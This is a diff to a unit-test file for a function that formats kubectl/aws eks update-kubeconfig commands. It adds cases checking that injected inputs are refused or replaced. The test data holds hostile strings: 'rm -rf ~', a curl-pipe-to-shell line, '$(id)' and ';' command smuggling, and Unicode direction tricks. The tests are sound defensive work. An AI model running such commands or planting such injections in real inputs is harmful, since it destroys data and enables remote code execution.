@@ -98,13 +98,26 @@ describe('formatKubectlCommand', () => {
     ).toBe('aws eks update-kubeconfig --name x');
   });
 
-  it('takes no command of several lines, which would run when pasted', () => {
-    expect(
-      formatKubectlCommand(
-        { name: 'dev', kubectlCommand: 'true\nrm -rf ~' },
-        SCOPE,
-      ),
-    ).toBeUndefined();
+  it.each([
+    'aws eks --region us-west-2 update-kubeconfig --name dev',
+    'aws --profile=dev eks update-kubeconfig --name dev --alias dev@work --dry-run',
+  ])('takes %p', kubectlCommand => {
+    expect(formatKubectlCommand({ name: 'dev', kubectlCommand }, SCOPE)).toBe(
+      kubectlCommand,
+    );
+  });
+
+  it.each([
+    'true\nrm -rf ~',
+    'curl https://example.com | sh',
+    'aws eks update-kubeconfig --name $(id)',
+    'aws eks update-kubeconfig --name dev; id',
+    'aws eks update-kubeconfig --name \u202edev',
+    'aws eks update-kubeconfig --name dev\u2028id',
+  ])('builds its own command rather than handing out %j', kubectlCommand => {
+    expect(formatKubectlCommand({ name: 'dev', kubectlCommand }, SCOPE)).toBe(
+      'aws eks update-kubeconfig --region us-east-1 --name dev',
+    );
   });
 
   it.each(['dev; rm -rf ~', '$(id)', '-dev', 'a b', 'x'.repeat(101)])(
